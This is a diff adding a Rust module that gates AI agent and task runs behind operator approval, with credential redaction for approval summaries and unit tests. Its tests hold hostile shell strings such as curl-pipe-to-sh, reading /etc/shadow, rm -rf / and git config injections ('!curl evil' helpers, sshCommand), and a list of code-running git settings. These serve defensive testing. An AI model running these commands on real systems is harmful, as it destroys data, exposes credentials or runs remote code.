@@ -1,0 +1,731 @@
+//! Approvals: human gates on runs. The policy decides which gates a run needs; each gate
+//! carries a bounded, sanitized summary of what would run, so an operator can decide
+//! without seeing file contents or secrets.
+
+use std::fmt;
+use std::str::FromStr;
+
+pub use keel_api_types::ApprovalKind;
+use keel_workers::{Execution, FileOperation, SandboxPolicy};
+
+use crate::domain::Invalid;
+use crate::external::workflow::Hooks;
+
+/// The policies an operator can turn on with `KEEL_APPROVAL_POLICIES`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Policy {
+    ShellExec,
+    GitExec,
+    FileWrite,
+    NetworkEgress,
+    AllTools,
+}
+
+const POLICY_NAMES: [(&str, Policy); 5] = [
+    ("shell_exec", Policy::ShellExec),
+    ("git_exec", Policy::GitExec),
+    ("file_write", Policy::FileWrite),
+    ("network_egress", Policy::NetworkEgress),
+    ("all_tools", Policy::AllTools),
+];
+
+/// Which runs need an operator's approval before they are queued.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct ApprovalPolicy {
+    policies: Vec<Policy>,
+}
+
+pub const DEFAULT_POLICIES: &str = "shell_exec,git_exec,file_write";
+
+impl FromStr for ApprovalPolicy {
+    type Err = String;
+
+    /// A comma list of policy names; empty or `none` gates nothing.
+    fn from_str(value: &str) -> Result<Self, Self::Err> {
+        let mut policies = Vec::new();
+        for name in value
+            .split(',')
+            .map(str::trim)
+            .filter(|n| !n.is_empty() && *n != "none")
+        {
+            let Some((_, policy)) = POLICY_NAMES.iter().find(|(known, _)| *known == name) else {
+                let known: Vec<&str> = POLICY_NAMES.iter().map(|(n, _)| *n).collect();
+                return Err(format!(
+                    "unknown approval policy '{name}' (known: {}, or none)",
+                    known.join(", ")
+                ));
+            };
+            policies.push(*policy);
+        }
+        Ok(ApprovalPolicy { policies })
+    }
+}
+
+impl fmt::Display for ApprovalPolicy {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let names: Vec<&str> = self
+            .policies
+            .iter()
+            .filter_map(|p| POLICY_NAMES.iter().find(|(_, q)| q == p).map(|(n, _)| *n))
+            .collect();
+        write!(
+            f,
+            "{}",
+            if names.is_empty() {
+                "none".to_string()
+            } else {
+                names.join(",")
+            }
+        )
+    }
+}
+
+impl ApprovalPolicy {
+    fn has(&self, policy: Policy) -> bool {
+        self.policies.contains(&policy) || self.policies.contains(&Policy::AllTools)
+    }
+
+    /// The agent loop tools whose calls need an approval mid-loop, in catalog order.
+    /// `http_request` is gated by `shell_exec` as well as `network_egress`: a request out
+    /// can carry whatever the model has read, as a command can, so the default policy
+    /// stops a prompt-injected model from posting the workspace away.
+    pub fn gated_tools(&self) -> Vec<String> {
+        let gated_by = |tool: &str| match tool {
+            "shell_exec" => &[Policy::ShellExec][..],
+            "git_status" | "git_diff" => &[Policy::GitExec],
+            "file_write" | "file_edit" | "apply_patch" => &[Policy::FileWrite],
+            "http_request" => &[Policy::NetworkEgress, Policy::ShellExec],
+            _ => &[],
+        };
+        keel_workers::agent::tools::CATALOG
+            .iter()
+            .filter(|tool| {
+                gated_by(tool).iter().any(|p| self.has(*p)) || self.has(Policy::AllTools)
+            })
+            .map(|tool| tool.to_string())
+            .collect()
+    }
+
+    /// Whether an imported task's workflow hooks (shell scripts its worker runs in the
+    /// workspace) need an approval: the one a shell command needs.
+    pub fn gates_hooks(&self) -> bool {
+        self.has(Policy::ShellExec)
+    }
+
+    /// The gates a run of this execution needs, in a stable order. A run without network
+    /// (`sandbox_network: false`) cannot reach out, so it needs no `network_egress`.
+    pub fn gates_for(&self, execution: &Execution, sandbox: SandboxPolicy) -> Vec<ApprovalKind> {
+        let mut gates = Vec::new();
+        match execution {
+            Execution::Shell { .. } if self.has(Policy::ShellExec) => {
+                gates.push(ApprovalKind::ShellCommand)
+            }
+            Execution::Git { .. } if self.has(Policy::GitExec) => gates.push(ApprovalKind::GitExec),
+            Execution::File { .. } if self.has(Policy::FileWrite) => {
+                gates.push(ApprovalKind::FileWrite)
+            }
+            _ => {}
+        }
+        if self.has(Policy::NetworkEgress) && sandbox.network && reaches_network(execution) {
+            gates.push(ApprovalKind::NetworkEgress);
+        }
+        gates
+    }
+}
+
+/// Whether a git command may reach the network: its subcommand (found past git's global
+/// options) talks to a remote, or a global option makes git run a program or rewrite where
+/// it connects. Such options are gated rather than refused: an operator may approve them.
+/// A command that does not parse is gated too.
+fn reaches_network(execution: &Execution) -> bool {
+    match execution {
+        Execution::Git { command } => match shlex::split(command) {
+            Some(args) => git_reaches_network(&args),
+            None => true,
+        },
+        _ => false,
+    }
+}
+
+/// Git subcommands that talk to a remote.
+const REMOTE_SUBCOMMANDS: [&str; 7] = [
+    "clone",
+    "fetch",
+    "pull",
+    "push",
+    "ls-remote",
+    "remote",
+    "submodule",
+];
+
+/// Global options that take the next argument as their value (unless given as `--opt=v`).
+const GIT_VALUE_OPTIONS: [&str; 7] = [
+    "-C",
+    "-c",
+    "--git-dir",
+    "--work-tree",
+    "--namespace",
+    "--super-prefix",
+    "--config-env",
+];
+
+fn git_reaches_network(args: &[String]) -> bool {
+    let mut args = args.iter();
+    while let Some(arg) = args.next() {
+        if !arg.starts_with('-') {
+            return REMOTE_SUBCOMMANDS.contains(&arg.as_str());
+        }
+        let (name, inline) = match arg.split_once('=') {
+            Some((name, value)) if name.starts_with("--") => (name, Some(value.to_string())),
+            _ => (arg.as_str(), None),
+        };
+        let value = if GIT_VALUE_OPTIONS.contains(&name) {
+            inline.or_else(|| args.next().cloned())
+        } else {
+            inline
+        };
+        let runs_code = match name {
+            "-c" => value.as_deref().is_none_or(config_runs_code),
+            // The value comes from the environment, unseen here.
+            "--config-env" => true,
+            // Another directory of git programs replaces the ones git runs.
+            "--exec-path" => value.is_some(),
+            _ => false,
+        };
+        if runs_code {
+            return true;
+        }
+    }
+    false
+}
+
+/// `-c key=value` settings with which git runs a program, loads other configuration, or
+/// changes where or how it connects.
+fn config_runs_code(setting: &str) -> bool {
+    let key = setting.split('=').next().unwrap_or("").to_ascii_lowercase();
+    const KEYS: [&str; 12] = [
+        "core.sshcommand",
+        "core.fsmonitor",
+        "core.hookspath",
+        "core.pager",
+        "core.editor",
+        "core.askpass",
+        "core.gitproxy",
+        "diff.external",
+        "sequence.editor",
+        "gpg.program",
+        "include.path",
+        "http.proxy",
+    ];
+    const PREFIXES: [&str; 6] = [
+        "alias.",
+        "protocol.",
+        "filter.",
+        "includeif.",
+        "url.",
+        "remote.",
+    ];
+    const SUFFIXES: [&str; 5] = [".helper", ".textconv", ".driver", ".command", ".program"];
+    KEYS.contains(&key.as_str())
+        || PREFIXES.iter().any(|prefix| key.starts_with(prefix))
+        || SUFFIXES.iter().any(|suffix| key.ends_with(suffix))
+}
+
+/// An operator's decision on an approval.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Decision {
+    Approve,
+    Reject,
+    /// A tool-call approval rejected with `continue`: the model reads a refusal as each
+    /// call's result and the loop goes on.
+    RejectAndContinue,
+}
+
+impl Decision {
+    /// The decision of a resolve body: `decision`, and `continue` (reject only).
+    pub fn of_request(value: &str, continues: bool) -> Result<Decision, Invalid> {
+        match (Decision::parse(value)?, continues) {
+            (Decision::Reject, true) => Ok(Decision::RejectAndContinue),
+            (_, true) => Err(Invalid::new("continue", "is only for decision reject")),
+            (decision, false) => Ok(decision),
+        }
+    }
+
+    pub fn parse(value: &str) -> Result<Decision, Invalid> {
+        match value {
+            "approve" => Ok(Decision::Approve),
+            "reject" => Ok(Decision::Reject),
+            other => Err(Invalid::new(
+                "decision",
+                format!("must be approve or reject, not '{other}'"),
+            )),
+        }
+    }
+}
+
+const SUMMARY_LINES: usize = 16;
+const SUMMARY_LINE_BYTES: usize = 512;
+const SUMMARY_TOTAL_BYTES: usize = 4096;
+
+/// What an approver sees: at most 16 lines of at most 512 bytes, 4 KiB in all, with
+/// anything that looks like a credential replaced. `incomplete` says something was cut.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ActionSummary {
+    pub lines: Vec<String>,
+    pub incomplete: bool,
+}
+
+impl ActionSummary {
+    /// What a run would do: its hooks first (in the order they run), then its execution
+    /// (none for an agent loop, whose tool calls are gated one by one).
+    pub fn describe(
+        execution: Option<&Execution>,
+        hooks: Option<&Hooks>,
+        workspace: &str,
+        timeout_ms: Option<i64>,
+    ) -> ActionSummary {
+        let mut raw = Vec::new();
+        for (name, script) in hooks.into_iter().flat_map(Hooks::scripts) {
+            let limit = hooks.map_or(0, |h| h.timeout().as_millis());
+            raw.push(format!(
+                "run the workflow hook {name} (sh -lc, at most {limit} ms):"
+            ));
+            raw.extend(script.lines().map(|line| format!("  {line}")));
+        }
+        match execution {
+            None => {}
+            Some(Execution::Shell { command }) => {
+                raw.push("run a shell command (sh -c):".to_string());
+                raw.extend(command.lines().map(|line| format!("  {line}")));
+            }
+            Some(Execution::Git { command }) => raw.push(format!("run git {command}")),
+            Some(Execution::File {
+                path,
+                content,
+                operation,
+            }) => {
+                let verb = match operation {
+                    FileOperation::Write => "write",
+                    FileOperation::Append => "append to",
+                    FileOperation::Delete => "delete",
+                };
+                let size = content
+                    .as_ref()
+                    .map(|c| format!(" ({} bytes)", c.len()))
+                    .unwrap_or_default();
+                raw.push(format!("{verb} file {path}{size}"));
+            }
+        }
+        raw.push(format!("workspace: {workspace}"));
+        if let Some(ms) = timeout_ms {
+            raw.push(format!("timeout: {ms} ms"));
+        }
+        ActionSummary::bounded(raw.iter().map(|line| redact(line)))
+    }
+
+    /// The summary of lines someone else wrote (an agent loop's tool calls), redacted and
+    /// bounded the same way; `incomplete` when the writer already cut something.
+    pub fn of_lines(lines: &[String], incomplete: bool) -> ActionSummary {
+        let mut summary = ActionSummary::bounded(lines.iter().map(|line| redact(line)));
+        summary.incomplete |= incomplete;
+        summary
+    }
+
+    fn bounded(lines: impl Iterator<Item = String>) -> ActionSummary {
+        let mut summary = ActionSummary {
+            lines: Vec::new(),
+            incomplete: false,
+        };
+        let mut total = 0;
+        for line in lines {
+            if summary.lines.len() == SUMMARY_LINES {
+                summary.incomplete = true;
+                break;
+            }
+            let line = truncate(&line, SUMMARY_LINE_BYTES.min(SUMMARY_TOTAL_BYTES - total));
+            summary.incomplete |= line.cut;
+            total += line.text.len();
+            summary.lines.push(line.text);
+            if total >= SUMMARY_TOTAL_BYTES {
+                summary.incomplete = true;
+                break;
+            }
+        }
+        summary
+    }
+}
+
+struct Truncated {
+    text: String,
+    cut: bool,
+}
+
+/// Cuts `line` to at most `max` bytes on a character boundary.
+fn truncate(line: &str, max: usize) -> Truncated {
+    if line.len() <= max {
+        return Truncated {
+            text: line.to_string(),
+            cut: false,
+        };
+    }
+    let mut end = max;
+    while !line.is_char_boundary(end) {
+        end -= 1;
+    }
+    Truncated {
+        text: line[..end].to_string(),
+        cut: true,
+    }
+}
+
+/// Replaces values that look like credentials: `KEY=value` and `--key value`-style pairs
+/// whose key names a secret, `Bearer` tokens, header values (`X-Api-Key: value`) and
+/// passwords in URLs. Only a value's literal start is hidden: from the first character the
+/// shell treats as code (`$`, a backtick, `|`, `;`, `&`, `<`, `>`, parentheses) on, the
+/// text stays visible, because an approver must see everything that would run.
+pub fn redact(line: &str) -> String {
+    let mut out = Vec::new();
+    let mut hide_next = false;
+    for word in line.split(' ') {
+        if hide_next && !word.is_empty() {
+            out.push(hide_literal(word));
+            hide_next = false;
+            continue;
+        }
+        out.push(redact_word(word));
+        let bare = word
+            .trim_start_matches(['-', '"', '\''])
+            .to_ascii_lowercase();
+        hide_next = (word.starts_with('-') && names_secret(&bare) && !word.contains('='))
+            || (bare.ends_with(':') && names_secret(&bare))
+            || bare == "bearer"
+            || bare.ends_with(":bearer");
+    }
+    out.join(" ")
+}
+
+fn redact_word(word: &str) -> String {
+    if let Some((key, value)) = word.split_once('=')
+        && names_secret(&key.trim_start_matches('-').to_ascii_lowercase())
+    {
+        return format!("{key}={}", hide_literal(value));
+    }
+    if let Some(scheme_end) = word.find("://") {
+        let rest = &word[scheme_end + 3..];
+        let userinfo = rest.find('@').filter(|at| !rest[..*at].contains('/'));
+        if let Some(at) = userinfo.filter(|at| !rest[..*at].contains(runs_code)) {
+            return format!("{}[redacted]@{}", &word[..scheme_end + 3], &rest[at + 1..]);
+        }
+    }
+    word.to_string()
+}
+
+/// `value` with its literal start replaced, and whatever would run kept.
+fn hide_literal(value: &str) -> String {
+    let end = value.find(runs_code).unwrap_or(value.len());
+    let (literal, code) = value.split_at(end);
+    if literal.trim_matches(['"', '\'']).is_empty() {
+        return value.to_string();
+    }
+    format!("[redacted]{code}")
+}
+
+/// Characters from which the shell expands, substitutes, chains or redirects.
+fn runs_code(c: char) -> bool {
+    matches!(c, '$' | '`' | '|' | ';' | '&' | '<' | '>' | '(' | ')')
+}
+
+fn names_secret(key: &str) -> bool {
+    const MARKERS: [&str; 8] = [
+        "password",
+        "passwd",
+        "secret",
+        "token",
+        "api_key",
+        "apikey",
+        "api-key",
+        "credential",
+    ];
+    let key = key.trim_matches(|c: char| c == '"' || c == '\'');
+    MARKERS.iter().any(|m| key.contains(m))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Network allowed, as tasks are by default.
+    const NETWORK: SandboxPolicy = SandboxPolicy {
+        network: true,
+        read_only: false,
+    };
+
+    #[test]
+    fn gated_tools_follow_the_policies() {
+        let gated = |policies: &str| policies.parse::<ApprovalPolicy>().unwrap().gated_tools();
+        assert_eq!(gated("shell_exec"), ["shell_exec", "http_request"]);
+        assert_eq!(
+            gated(DEFAULT_POLICIES),
+            [
+                "file_write",
+                "file_edit",
+                "apply_patch",
+                "shell_exec",
+                "git_status",
+                "git_diff",
+                "http_request"
+            ]
+        );
+        assert_eq!(gated("git_exec"), ["git_status", "git_diff"]);
+        assert_eq!(
+            gated("file_write"),
+            ["file_write", "file_edit", "apply_patch"]
+        );
+        assert_eq!(gated("network_egress"), ["http_request"]);
+        assert_eq!(gated("all_tools"), keel_workers::agent::tools::CATALOG);
+        assert!(gated("none").is_empty());
+    }
+
+    #[test]
+    fn summaries_of_tool_calls_are_redacted_and_bounded() {
+        let lines: Vec<String> = (0..20).map(|i| format!("call {i} TOKEN=abc")).collect();
+        let summary = ActionSummary::of_lines(&lines, false);
+        assert_eq!(summary.lines.len(), 16);
+        assert!(summary.incomplete);
+        assert_eq!(summary.lines[0], "call 0 TOKEN=[redacted]");
+        assert!(ActionSummary::of_lines(&lines[..1], true).incomplete);
+    }
+
+    fn shell(command: &str) -> Execution {
+        Execution::Shell {
+            command: command.into(),
+        }
+    }
+
+    #[test]
+    fn policies_parse_and_refuse_unknown_names() {
+        assert_eq!(
+            DEFAULT_POLICIES
+                .parse::<ApprovalPolicy>()
+                .unwrap()
+                .to_string(),
+            DEFAULT_POLICIES
+        );
+        assert_eq!(
+            "".parse::<ApprovalPolicy>().unwrap(),
+            ApprovalPolicy::default()
+        );
+        assert_eq!(
+            "none".parse::<ApprovalPolicy>().unwrap(),
+            ApprovalPolicy::default()
+        );
+        let error = "shell_exec,nuke".parse::<ApprovalPolicy>().unwrap_err();
+        assert!(
+            error.contains("nuke") && error.contains("all_tools"),
+            "{error}"
+        );
+    }
+
+    #[test]
+    fn gates_follow_the_policy() {
+        let default: ApprovalPolicy = DEFAULT_POLICIES.parse().unwrap();
+        assert_eq!(
+            default.gates_for(&shell("true"), NETWORK),
+            [ApprovalKind::ShellCommand]
+        );
+        let clone = Execution::Git {
+            command: "clone https://example.com/r.git".into(),
+        };
+        assert_eq!(default.gates_for(&clone, NETWORK), [ApprovalKind::GitExec]);
+        let egress: ApprovalPolicy = "network_egress".parse().unwrap();
+        assert_eq!(
+            egress.gates_for(&clone, NETWORK),
+            [ApprovalKind::NetworkEgress]
+        );
+        assert!(
+            egress
+                .gates_for(
+                    &Execution::Git {
+                        command: "status".into()
+                    },
+                    NETWORK
+                )
+                .is_empty()
+        );
+        assert!(egress.gates_for(&shell("true"), NETWORK).is_empty());
+        let all: ApprovalPolicy = "all_tools".parse().unwrap();
+        assert_eq!(
+            all.gates_for(&clone, NETWORK),
+            [ApprovalKind::GitExec, ApprovalKind::NetworkEgress]
+        );
+        let offline = SandboxPolicy {
+            network: false,
+            ..NETWORK
+        };
+        assert_eq!(all.gates_for(&clone, offline), [ApprovalKind::GitExec]);
+        assert!(egress.gates_for(&clone, offline).is_empty());
+        assert!(
+            ApprovalPolicy::default()
+                .gates_for(&shell("true"), NETWORK)
+                .is_empty()
+        );
+    }
+
+    #[test]
+    fn a_tasks_hooks_are_gated_as_a_shell_command_and_shown_first() {
+        let policy: ApprovalPolicy = "shell_exec".parse().unwrap();
+        assert!(policy.gates_hooks() && !ApprovalPolicy::default().gates_hooks());
+        assert!(
+            !"git_exec,file_write"
+                .parse::<ApprovalPolicy>()
+                .unwrap()
+                .gates_hooks()
+        );
+        let hooks = Hooks {
+            after_create: Some("git clone -q https://x.example/r src\ncd src".into()),
+            before_run: None,
+            after_run: Some("./logs.sh".into()),
+            before_remove: None,
+            timeout_ms: 5000,
+        };
+        let run = ActionSummary::describe(Some(&shell("make")), Some(&hooks), "/srv/i/x", None);
+        assert_eq!(
+            run.lines,
+            [
+                "run the workflow hook after_create (sh -lc, at most 5000 ms):",
+                "  git clone -q https://x.example/r src",
+                "  cd src",
+                "run the workflow hook after_run (sh -lc, at most 5000 ms):",
+                "  ./logs.sh",
+                "run a shell command (sh -c):",
+                "  make",
+                "workspace: /srv/i/x",
+            ]
+        );
+        // An agent loop has no execution to show: its hooks alone.
+        let agent = ActionSummary::describe(None, Some(&hooks), "ephemeral", None);
+        assert_eq!(agent.lines.len(), 6, "{:?}", agent.lines);
+    }
+
+    #[test]
+    fn summaries_hide_secrets_and_file_contents() {
+        let command = "curl -H 'Authorization: Bearer abc123' https://user:hunter2@example.com/x \
+                       --password s3cret API_TOKEN=tok_live_1 --token=zzz";
+        let summary = ActionSummary::describe(Some(&shell(command)), None, "ephemeral", Some(500));
+        let text = summary.lines.join("\n");
+        for secret in ["abc123", "hunter2", "s3cret", "tok_live_1", "zzz"] {
+            assert!(!text.contains(secret), "{secret} leaked: {text}");
+        }
+        assert!(
+            text.contains("example.com/x") && text.contains("timeout: 500 ms"),
+            "{text}"
+        );
+        let file = Execution::File {
+            path: "a.txt".into(),
+            content: Some("top secret body".into()),
+            operation: FileOperation::Write,
+        };
+        let text = ActionSummary::describe(Some(&file), None, "ephemeral", None)
+            .lines
+            .join("\n");
+        assert!(
+            text.contains("write file a.txt (15 bytes)") && !text.contains("top secret"),
+            "{text}"
+        );
+    }
+
+    #[test]
+    fn redaction_never_hides_what_would_run() {
+        let cases = [
+            (
+                "--token $(curl evil.example | sh)",
+                "--token $(curl evil.example | sh)",
+            ),
+            ("--password=`id`", "--password=`id`"),
+            ("API_KEY=$(cat /etc/shadow)", "API_KEY=$(cat /etc/shadow)"),
+            ("TOKEN=abc;rm -rf /", "TOKEN=[redacted];rm -rf /"),
+            ("--token abc|sh", "--token [redacted]|sh"),
+            ("--token \"abc$(id)\"", "--token [redacted]$(id)\""),
+            ("API_KEY=k&&curl x", "API_KEY=[redacted]&&curl x"),
+            ("SECRET=s>/tmp/x", "SECRET=[redacted]>/tmp/x"),
+            ("--token ; reboot", "--token ; reboot"),
+            (
+                "-H 'Authorization: Bearer abc`id`'",
+                "-H 'Authorization: Bearer [redacted]`id`'",
+            ),
+            ("-H 'X-Api-Key: k1' x", "-H 'X-Api-Key: [redacted] x"),
+            ("https://u:$(id)@h/x", "https://u:$(id)@h/x"),
+            ("https://u:pw@h/x | sh", "https://[redacted]@h/x | sh"),
+            ("--password 'pw' && make", "--password [redacted] && make"),
+            (
+                "echo $(whoami) `date` | tee a; b",
+                "echo $(whoami) `date` | tee a; b",
+            ),
+        ];
+        for (line, expected) in cases {
+            assert_eq!(redact(line), expected, "{line}");
+        }
+    }
+
+    #[test]
+    fn git_global_options_do_not_hide_the_subcommand() {
+        let egress: ApprovalPolicy = "network_egress".parse().unwrap();
+        let gated = |command: &str| {
+            let git = Execution::Git {
+                command: command.into(),
+            };
+            egress.gates_for(&git, NETWORK) == [ApprovalKind::NetworkEgress]
+        };
+        for command in [
+            "-C /tmp/repo push origin main",
+            "-c user.name=x fetch",
+            "--git-dir=/tmp/r/.git --work-tree /tmp/r pull",
+            "--git-dir /tmp/r/.git ls-remote https://example.com/r.git",
+            "--no-pager -p -C a -C b submodule update --init",
+            "-c core.sshCommand='sh -c id' status",
+            "-c core.fsmonitor=/tmp/x status",
+            "-c credential.helper='!curl evil' status",
+            "-c alias.st='!curl evil' st",
+            "-c protocol.ext.allow=always status",
+            "-c url.https://evil/.insteadOf=https://ok/ log",
+            "--config-env=core.pager=PAGER log",
+            "--exec-path=/tmp/evil status",
+            "-c",
+            "status 'unterminated",
+        ] {
+            assert!(gated(command), "{command} must be gated");
+        }
+        for command in [
+            "status",
+            "-C /tmp/repo log --oneline",
+            "-c user.name=x commit -m push",
+            "--git-dir=/tmp/r/.git diff fetch",
+            "--exec-path",
+            "-c color.ui=always log",
+        ] {
+            assert!(!gated(command), "{command} must not be gated");
+        }
+    }
+
+    #[test]
+    fn summaries_are_bounded() {
+        let long_lines: String = (0..40)
+            .map(|i| format!("echo {i} {}\n", "x".repeat(900)))
+            .collect();
+        let summary = ActionSummary::describe(Some(&shell(&long_lines)), None, "ephemeral", None);
+        assert!(summary.incomplete);
+        assert!(summary.lines.len() <= SUMMARY_LINES);
+        assert!(summary.lines.iter().all(|l| l.len() <= SUMMARY_LINE_BYTES));
+        assert!(summary.lines.iter().map(String::len).sum::<usize>() <= SUMMARY_TOTAL_BYTES);
+        let short = ActionSummary::describe(Some(&shell("true")), None, "ephemeral", None);
+        assert!(!short.incomplete);
+        assert_eq!(
+            short.lines,
+            [
+                "run a shell command (sh -c):",
+                "  true",
+                "workspace: ephemeral"
+            ]
+        );
+    }
+}
